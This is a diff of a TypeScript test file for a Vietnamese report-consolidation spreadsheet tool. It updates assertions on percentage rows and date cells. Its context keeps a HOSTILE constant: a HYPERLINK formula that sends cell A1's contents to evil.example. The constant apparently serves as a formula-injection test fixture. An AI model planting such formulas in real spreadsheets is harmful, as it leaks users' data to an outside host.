@@ -2,6 +2,7 @@ import { consolidate, summaryWorkbook } from "../../../src/core/consolidate";
 import type { CellModel, SheetModel } from "../../../src/core/sheet";
 import { book, form, notAReport, single, smallPlan, unreadable } from "./factory";
 import { defaultPlan } from "../../../src/core/plan";
+import { isoDateToExcelSerial } from "../../../src/core/time";
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
 
@@ -77,8 +78,8 @@ describe("summaryWorkbook", () => {
     expect(texts).toContain("Kỳ báo cáo: Năm 2024 (từ 15/12/2023 đến 14/12/2024); hạn nộp: 10/12/2024");
     expect(texts).toContain("Số liệu tính đến ngày: 20/12/2024");
     // required: X_A on time, X_B late, X_C invalid, P_LD on time, P_YT missing → 3/5 valid, 2/5 on time
-    expect(at(s, 4, 3)?.value).toBe(60);
-    expect(at(s, 5, 3)?.value).toBe(40);
+    expect(rowWhere(s, 2, "Tỷ lệ đơn vị nộp báo cáo hợp lệ (%)")[3]).toBe(60);
+    expect(rowWhere(s, 2, "Tỷ lệ đơn vị nộp đúng hạn (%)")[3]).toBe(40);
   });
 
   it.each([
@@ -101,16 +102,19 @@ describe("summaryWorkbook", () => {
     expect(s.styles[at(s, r, 8)!.style!].color).toBe("9C0006");
   });
 
+  // Dates are real date cells, shown dd/mm/yyyy (docs/contract.md §4.4 "Printing").
   it.each([
-    ["X_A", "Đúng hạn", "10/12/2024", "Ngày báo cáo ghi trên biểu"],
-    ["X_B", "Trễ 3 ngày", "13/12/2024", "Ngày báo cáo ghi trên biểu"],
-    ["X_C", "Không hợp lệ", "09/12/2024", "Ngày báo cáo ghi trên biểu"],
+    ["X_A", "Đúng hạn", "2024-12-10", "Ngày báo cáo ghi trên biểu"],
+    ["X_B", "Trễ 3 ngày", "2024-12-13", "Ngày báo cáo ghi trên biểu"],
+    ["X_C", "Không hợp lệ", "2024-12-09", "Ngày báo cáo ghi trên biểu"],
     ["P_YT", "Chưa nộp", null, null],
     ["MTTQ", "Chưa nhận (không bắt buộc)", null, null],
   ])("TinhHinhNop: %s is %s", (unit, label, date, source) => {
     const s = sheet("TinhHinhNop");
     const row = rowWhere(s, 1, unit);
-    expect([row[4], row[5], row[6]]).toEqual([label, date, source]);
+    expect([row[4], row[5], row[6]]).toEqual([label, date === null ? null : isoDateToExcelSerial(date), source]);
+    const dateCell = s.cells.find((c) => c.row === s.cells.find((x) => x.col === 1 && x.value === unit)!.row && c.col === 5)!;
+    if (date !== null) expect(s.styles[dateCell.style!].numFmt).toBe("dd/mm/yyyy");
     const statusCell = s.cells.find((c) => c.col === 4 && c.value === label)!;
     expect(s.styles[statusCell.style!].fill).toMatch(/^[0-9A-F]{6}$/);
   });
